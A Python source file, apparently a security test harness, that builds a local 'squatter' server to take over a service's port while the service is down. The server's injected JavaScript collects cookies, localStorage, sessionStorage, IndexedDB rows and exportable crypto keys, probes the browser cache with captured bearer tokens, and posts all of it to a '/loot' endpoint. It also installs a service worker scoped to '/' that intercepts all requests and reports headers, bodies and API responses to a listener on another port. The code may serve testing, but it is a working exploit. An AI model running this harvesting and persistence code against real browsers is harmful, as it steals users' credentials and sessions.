"""A program that holds the service's port while that is down, and keeps whatever a browser gives it."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator, Sequence
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

PAGE = "<!doctype html><title>squatter</title><script>\n%s\n</script>"
LOOK_ROUND = """
const send = (name, what) => fetch("/loot", { method: "POST", body: JSON.stringify([name, what]) });
const read = (store) => new Promise((resolve, reject) => {
  const request = store.getAll();
  request.onsuccess = () => resolve(request.result);
  request.onerror = reject;
});
const opened = (name) => new Promise((resolve, reject) => {
  const request = indexedDB.open(name);
  request.onsuccess = () => resolve(request.result);
  request.onerror = reject;
});
async function lookRound(bearers, questions) {
  await send("cookies", document.cookie);
  await send("localStorage", { ...localStorage });
  await send("sessionStorage", { ...sessionStorage });
  for (const { name } of await indexedDB.databases()) {
    const database = await opened(name);
    for (const store of database.objectStoreNames) {
      for (const row of await read(database.transaction(store).objectStore(store))) {
        await send("kept", row);
        for (const form of ["raw", "jwk"]) {
          const key = await crypto.subtle.exportKey(form, row.key).catch((error) => error.name);
          await send("exported key", key);
        }
      }
    }
  }
  for (const [where, cache] of [["force-cache", "force-cache"], ["only-if-cached", "only-if-cached"]]) {
    for (const question of questions) {
      for (const bearer of bearers) {
        const options = { cache, mode: "same-origin", headers: bearer ? { Authorization: bearer } : {} };
        const answer = await fetch(question, options).then((one) => one.text(), () => "");
        await send(`from the cache (${where})`, answer);
      }
    }
  }
  await navigator.serviceWorker.register("/deep/worker.js", { scope: "/" });
  await navigator.serviceWorker.ready;
  document.title = "done";
}
"""
WORKER = """
addEventListener("install", () => skipWaiting());
const [maker, claims] = %s;
addEventListener("activate", (event) => claims && event.waitUntil(clients.claim()));
const send = (what) => fetch(maker, { method: "POST", mode: "no-cors", body: JSON.stringify(["worker", what]) });
addEventListener("fetch", (event) => event.respondWith((async () => {
  const { request } = event;
  const pages = (await clients.matchAll({ includeUncontrolled: true })).map((client) => client.url);
  const asked = [request.method, request.url, pages, [...request.headers], await request.clone().text()];
  const answer = await fetch(request);
  const told = request.url.includes("/api/") ? await answer.clone().text() : "";
  await send([...asked, answer.status, [...answer.headers], told]);
  return answer;
})()));
"""
"""It passes everything on, and tells its maker, who listens at another port, of all that it sees."""


class Loot:
    """Everything that came, by any way."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str, dict[str, str], str]] = []
        self.found: list[tuple[str, Any]] = []

    @property
    def bearers(self) -> list[str]:
        """The Authorization headers."""
        sent = (headers.get("authorization") for _, _, headers, _ in self.requests)
        return list(dict.fromkeys(filter(None, sent)))

    @property
    def bodies(self) -> list[tuple[str, dict[str, Any]]]:
        """What was posted, by address: to the program itself, and past its worker."""
        posted = [(path, body) for method, path, _, body in self.requests if method == "POST" and path != "/loot"]
        for _, seen in (one for one in self.found if one[0] == "worker"):
            posted.append((seen[1], seen[4]))
        found = []
        for path, body in posted:
            with suppress(ValueError):
                document = json.loads(body)
                if isinstance(document, dict):
                    found.append((path, document))
        return found

    def of(self, name: str) -> list[Any]:
        """What was found under a name."""
        return [what for one, what in self.found if one == name]

    def words(self) -> set[str]:
        """Every text that could be a credential, from wherever it came."""
        texts = [json.dumps(self.found), json.dumps(self.requests)]
        return {word for text in texts for word in _words(text)}


def _words(text: str) -> Iterator[str]:
    word = ""
    for letter in text + " ":
        if letter.isalnum() or letter in "-_.":
            word += letter
        elif len(word) >= 16:
            yield word
            word = ""
        else:
            word = ""


@contextmanager
def squatting(
    port: int, loot: Loot, maker: str = "", questions: Sequence[str] = (), page: str = "", *, claims: bool = False
) -> Iterator[None]:
    """Hold the port. `maker` is where its worker, which may claim open pages, sends what it sees.

    Its page asks the browser's cache the `questions`; `page` is shown in place of it.
    """

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._note("")
            if self.path == "/deep/worker.js":
                self._send(200, "text/javascript", WORKER % json.dumps([maker, claims]))
            elif self.path.startswith("/?squatter"):
                call = f"lookRound({json.dumps(['', *loot.bearers])}, {json.dumps([*questions])});"
                self._send(200, "text/html", page or PAGE % (LOOK_ROUND + call))
            else:
                self._send(401, "application/problem+json", "{}")

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"])).decode()
            if self.path == "/loot":
                loot.found.append(tuple(json.loads(body)))
            self._note(body)
            answers = {"/api/v1/session/challenge": {"challenge": "1.x.y"}, "/api/v1/session/bearer": {"bearer": "z"}}
            self._send(200, "application/json", json.dumps(answers.get(self.path, {})))

        def _note(self, body: str) -> None:
            headers = {name.lower(): value for name, value in self.headers.items()}
            loot.requests.append((self.command, self.path, headers, body))

        def _send(self, status: int, media_type: str, body: str) -> None:
            self.send_response(status)
            self.send_header("Content-Type", media_type)
            self.send_header("Content-Length", str(len(body.encode())))
            self.send_header("Service-Worker-Allowed", "/")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            with suppress(ConnectionError):
                self.wfile.write(body.encode())

        def log_message(self, *_arguments: object) -> None:
            pass

    with PassingServer(("127.0.0.1", port), Handler).serving():
        yield


class PassingServer(ThreadingHTTPServer):
    """As a program that has ended, it leaves no connection behind, not even one that the browser opened to spare."""

    def __init__(self, *arguments: Any) -> None:
        super().__init__(*arguments)
        self._connections: list[socket.socket] = []

    def get_request(self) -> tuple[socket.socket, Any]:
        connection, address = super().get_request()
        self._connections.append(connection)
        return connection, address

    @contextmanager
    def serving(self) -> Iterator[None]:
        """Until the context ends."""
        thread = threading.Thread(target=self.serve_forever, daemon=True)
        thread.start()
        try:
            yield
        finally:
            self.shutdown()
            self.server_close()
            self._hang_up()
            thread.join()

    def _hang_up(self) -> None:
        """Close what is still open."""
        for connection in self._connections:
            with suppress(OSError):
                connection.shutdown(socket.SHUT_RDWR)
